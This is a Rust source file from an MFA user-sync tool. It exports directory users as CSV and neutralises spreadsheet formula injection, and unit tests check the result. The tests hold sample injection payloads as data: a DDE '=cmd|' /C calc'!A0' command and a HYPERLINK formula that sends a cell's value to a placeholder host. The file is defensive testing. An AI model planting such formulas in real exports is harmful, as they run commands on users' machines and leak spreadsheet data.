//! `users export --format csv`: every MFA user as one CSV row with the export
//! fields in their order (`core::user::FIELDS`). Directory values can be
//! written by the users themselves (a phone, a name, a description in AD), so
//! by default no cell can run as a spreadsheet formula: a cell starting with
//! `=`, `+`, `-`, `@`, TAB or CR (OWASP's list), or with white space before
//! one of those, gets a single quote `'` in front; an E.164 number (`+` and
//! 1 to 15 digits, what a phone becomes when it parses) is left as it is: no
//! formula can be written with digits alone. Every cell is quoted, so a
//! spreadsheet whose list separator is `;` cannot split a cell into one that
//! starts a formula. `--raw` writes the values as stored (the output of
//! before), for tools that read CSV rather than spreadsheets.

use std::borrow::Cow;
use std::io::Write;

use mfasync_core::user::FIELDS;
use mfasync_core::MfaUser;
use serde_json::Value;

/// A cell as written by default: `'` in front of one a spreadsheet would
/// take for a formula.
pub fn neutralise(cell: &str) -> Cow<'_, str> {
    const STARTS_FORMULA: [char; 4] = ['=', '+', '-', '@'];
    let first = cell.chars().next();
    let first_visible = cell.trim_start().chars().next();
    let dangerous = matches!(first, Some('\t' | '\r'))
        || first_visible.is_some_and(|c| STARTS_FORMULA.contains(&c));
    if dangerous && !is_e164(cell) {
        Cow::Owned(format!("'{cell}"))
    } else {
        Cow::Borrowed(cell)
    }
}

/// `+` then 1 to 15 ASCII digits (an E.164 number as the phone mapping writes it).
fn is_e164(cell: &str) -> bool {
    cell.strip_prefix('+')
        .is_some_and(|d| (1..=15).contains(&d.len()) && d.bytes().all(|b| b.is_ascii_digit()))
}

/// Write `users` as CSV to `out`: neutralised and quoted, or `raw`.
pub fn write_csv(users: &[MfaUser], out: impl Write, raw: bool) -> Result<(), String> {
    let mut w = CsvWriter::new(out, raw)?;
    for u in users {
        w.user(u)?;
    }
    w.finish()
}

/// [`write_csv`] a user at a time (`users export` streams the store's rows).
pub struct CsvWriter<W: Write> {
    w: csv::Writer<W>,
    raw: bool,
}

impl<W: Write> CsvWriter<W> {
    /// The header row (none when `raw`: serde writes it with the first user).
    pub fn new(out: W, raw: bool) -> Result<Self, String> {
        if raw {
            return Ok(CsvWriter {
                w: csv::Writer::from_writer(out),
                raw,
            });
        }
        let mut w = csv::WriterBuilder::new()
            .quote_style(csv::QuoteStyle::Always)
            .from_writer(out);
        w.write_record(FIELDS).map_err(csv_failed)?;
        Ok(CsvWriter { w, raw })
    }

    pub fn user(&mut self, u: &MfaUser) -> Result<(), String> {
        if self.raw {
            return self.w.serialize(u).map_err(csv_failed);
        }
        let Value::Object(fields) =
            serde_json::to_value(u).map_err(|e| format!("cannot write the CSV: {e}"))?
        else {
            return Err("cannot write the CSV: a user is not a record".into());
        };
        let row = FIELDS.iter().map(|name| match fields.get(*name) {
            None | Some(Value::Null) => String::new(),
            Some(Value::String(s)) => neutralise(s).into_owned(),
            Some(other) => neutralise(&other.to_string()).into_owned(),
        });
        self.w.write_record(row).map_err(csv_failed)
    }

    pub fn finish(mut self) -> Result<(), String> {
        self.w
            .flush()
            .map_err(|e| format!("cannot write the CSV: {e}"))
    }
}

fn csv_failed(e: csv::Error) -> String {
    format!("cannot write the CSV: {e}")
}

/// Write `rows` (a user and, for one in the recycle bin, when it was
/// removed) as CSV with the export fields and a last column `deleted_at`
/// (empty for live users): neutralised and quoted, or `raw`.
pub fn write_csv_rows(
    rows: &[(&MfaUser, Option<&str>)],
    out: impl Write,
    raw: bool,
) -> Result<(), String> {
    let fail = |e: csv::Error| format!("cannot write the CSV: {e}");
    let mut w = match raw {
        true => csv::Writer::from_writer(out),
        false => csv::WriterBuilder::new()
            .quote_style(csv::QuoteStyle::Always)
            .from_writer(out),
    };
    let cell = |s: &str| match raw {
        true => s.to_string(),
        false => neutralise(s).into_owned(),
    };
    w.write_record(FIELDS.iter().copied().chain(["deleted_at"]))
        .map_err(fail)?;
    for (user, deleted_at) in rows {
        let Value::Object(fields) =
            serde_json::to_value(user).map_err(|e| format!("cannot write the CSV: {e}"))?
        else {
            return Err("cannot write the CSV: a user is not a record".into());
        };
        let row = FIELDS
            .iter()
            .map(|name| match fields.get(*name) {
                None | Some(Value::Null) => String::new(),
                Some(Value::String(s)) => cell(s),
                Some(other) => cell(&other.to_string()),
            })
            .chain([deleted_at.map(cell).unwrap_or_default()]);
        w.write_record(row).map_err(fail)?;
    }
    w.flush().map_err(|e| format!("cannot write the CSV: {e}"))
}

#[cfg(test)]
#[allow(clippy::unwrap_used)]
mod tests {
    use super::*;

    #[test]
    fn formulas_get_a_quote_and_plain_values_do_not() {
        for (cell, written) in [
            ("=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"),
            ("@SUM(1+1)", "'@SUM(1+1)"),
            (
                "=HYPERLINK(\"http://x.example/?\"&A1,\"Click\")",
                "'=HYPERLINK(\"http://x.example/?\"&A1,\"Click\")",
            ),
            ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
            ("-2+3", "'-2+3"),
            ("\t=1+1", "'\t=1+1"),
            ("\r=1+1", "'\r=1+1"),
            ("\tplain", "'\tplain"),
            (" =1+1", "' =1+1"),
            ("\n@x", "'\n@x"),
            ("+1 555 0100", "'+1 555 0100"),
            ("+1234567890123456", "'+1234567890123456"),
            ("+", "'+"),
            // left as they are
            ("+15551234567", "+15551234567"),
            ("+4930123456", "+4930123456"),
            ("Alice", "Alice"),
            ("a=b", "a=b"),
            (
                "uid=alice,ou=People,dc=example,dc=com",
                "uid=alice,ou=People,dc=example,dc=com",
            ),
            ("", ""),
            ("＝1+1", "＝1+1"),
        ] {
            assert_eq!(neutralise(cell), written, "{cell:?}");
        }
    }

    fn user() -> MfaUser {
        MfaUser {
            username: "mallory".into(),
            directory_id: Some("id-1".into()),
            dn: Some("uid=mallory,ou=People,dc=example,dc=com".into()),
            first_name: Some("=cmd|' /C calc'!A0".into()),
            description: Some("@SUM(1+1)".into()),
            business_phone: Some("+15551234567".into()),
            mobile_phone: Some("-1+1".into()),
            enabled: true,
            ..MfaUser::default()
        }
    }

    fn rows(text: &[u8]) -> Vec<Vec<String>> {
        csv::ReaderBuilder::new()
            .has_headers(false)
            .from_reader(text)
            .records()
            .map(|r| r.unwrap().iter().map(str::to_string).collect())
            .collect()
    }

    #[test]
    fn the_csv_has_the_same_columns_and_values_raw_or_not() {
        let users = [user()];
        let (mut safe, mut raw) = (Vec::new(), Vec::new());
        write_csv(&users, &mut safe, false).unwrap();
        write_csv(&users, &mut raw, true).unwrap();
        let (safe_rows, raw_rows) = (rows(&safe), rows(&raw));
        assert_eq!(safe_rows[0], raw_rows[0], "one header");
        assert_eq!(safe_rows[0], FIELDS);
        let col = |name: &str| FIELDS.iter().position(|f| *f == name).unwrap();
        assert_eq!(raw_rows[1][col("first_name")], "=cmd|' /C calc'!A0");
        assert_eq!(safe_rows[1][col("first_name")], "'=cmd|' /C calc'!A0");
        assert_eq!(safe_rows[1][col("description")], "'@SUM(1+1)");
        assert_eq!(safe_rows[1][col("mobile_phone")], "'-1+1");
        assert_eq!(safe_rows[1][col("business_phone")], "+15551234567");
        for (i, (s, r)) in safe_rows[1].iter().zip(&raw_rows[1]).enumerate() {
            assert_eq!(s.trim_start_matches('\''), r, "column {}", FIELDS[i]);
        }
        let text = String::from_utf8(safe).unwrap();
        assert!(
            text.starts_with("\"username\",\"directory_id\","),
            "every cell quoted: {text}"
        );
    }
}
